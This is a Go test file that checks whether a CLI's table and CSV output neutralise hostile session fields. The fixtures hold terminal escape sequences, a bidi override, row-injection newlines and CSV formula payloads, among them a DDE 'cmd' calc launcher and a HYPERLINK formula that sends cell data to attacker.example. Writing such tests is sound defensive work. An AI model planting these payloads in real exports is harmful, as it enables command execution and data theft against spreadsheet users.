package sessions

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/testgridkit/devicefarm"
	"github.com/testgridkit/devicefarm/cmd/testgrid/internal/cmdutil"
	"github.com/testgridkit/devicefarm/cmd/testgrid/internal/safetext"
)

// hostileSessions are sessions whose strings try to drive a terminal or a
// spreadsheet.
func hostileSessions() []devicefarm.TestGridSession {
	created := time.Date(2025, 3, 2, 8, 0, 0, 0, time.UTC)
	return []devicefarm.TestGridSession{
		{Arn: testSessionPrefix + "evil\x1b[2J\x1b[H\x1b[31mred\u202egnp.exe\rover\nfake row", Status: "ACTIVE\x1b]0;pwned\x07",
			Created: created, SeleniumProperties: `=HYPERLINK("http://attacker.example/?"&A1,"click")`},
		{Arn: testSessionPrefix + "=cmd|'-c calc'!A0", Status: "@SUM(A1:A9)", Created: created.Add(time.Second),
			Ended: created.Add(time.Minute), BillingMinutes: 1, SeleniumProperties: "+1+1"},
		{Arn: testSessionPrefix + "-2+3", Status: "\tCLOSED", Created: created.Add(2 * time.Second),
			Ended: created.Add(time.Minute), BillingMinutes: 1, SeleniumProperties: "\r-1"},
	}
}

func TestHostileSessionsInTable(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Seed(testProject, 4, 2)
	srv.AddSessions(testProject, hostileSessions()...)
	r := runTestgrid(t.Context(), awsEnv(srv), listArgs(srv)...)
	require.Equal(t, cmdutil.ExitOK, r.code, r.stderr)
	l := lines(r.stdout)
	require.Len(t, l, 1+7+1, "no row is broken: %q", r.stdout)
	for _, bad := range []string{"\x1b", "\x07", "\r", "\t", "\u202e"} {
		assert.NotContains(t, r.stdout, bad)
	}
	assert.Contains(t, r.stdout, `evil\x1b[2J\x1b[H\x1b[31mred\u202egnp.exe\rover\nfake row`)
	assert.Contains(t, r.stdout, `ACTIVE\x1b]0;pwned\x07`)
	assert.Contains(t, r.stdout, `\tCLOSED`)
	assert.Regexp(t, `^7 sessions, [\d.]+ billing minutes$`, l[len(l)-1], "the total line is intact")
}

func TestHostileSessionsInCSV(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	seeded := srv.Seed(testProject, 4, 2)
	srv.AddSessions(testProject, hostileSessions()...)
	r := runTestgrid(t.Context(), awsEnv(srv), listArgs(srv, "--output", "csv")...)
	require.Equal(t, cmdutil.ExitOK, r.code, r.stderr)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+7)
	neutralised := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" {
				assert.NotContains(t, safetext.CSVFormulaStarts, cell[:1], "cell %q could run as a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	assert.Equal(t, 6, neutralised, "2 IDs, 2 statuses and 2 properties start with a formula character (a carriage return is escaped)")
	byArn := map[string][]string{}
	for _, row := range rows[1:] {
		byArn[row[0]] = row // as CSVSafeCell wrote it
	}
	h := hostileSessions()
	assert.Equal(t, safetext.CSVSafeCell(h[0].SeleniumProperties), byArn[safetext.CSVSafeCell(h[0].Arn)][7])
	assert.Equal(t, "'@SUM(A1:A9)", byArn[safetext.CSVSafeCell(h[1].Arn)][2])
	assert.Equal(t, "'-2+3", byArn[safetext.CSVSafeCell(h[2].Arn)][1], "the ID")
	assert.Equal(t, `\r-1`, byArn[safetext.CSVSafeCell(h[2].Arn)][7], "escaped as in the table")
	assert.Equal(t, `evil\x1b[2J\x1b[H\x1b[31mred\u202egnp.exe\rover`+"\n"+`fake row`, strings.TrimPrefix(byArn[safetext.CSVSafeCell(h[0].Arn)][0], testSessionPrefix),
		"ESC, the bidi override and CR escaped as in the table (issue 20, row 7)")
	assert.Equal(t, `ACTIVE\x1b]0;pwned\x07`, byArn[safetext.CSVSafeCell(h[0].Arn)][2])
	for _, s := range seeded { // ordinary sessions are untouched
		row := byArn[s.Arn]
		require.NotNil(t, row, s.Arn)
		assert.Equal(t, []string{s.Arn, s.ID(), string(s.Status), s.SeleniumProperties}, []string{row[0], row[1], row[2], row[7]})
	}
}
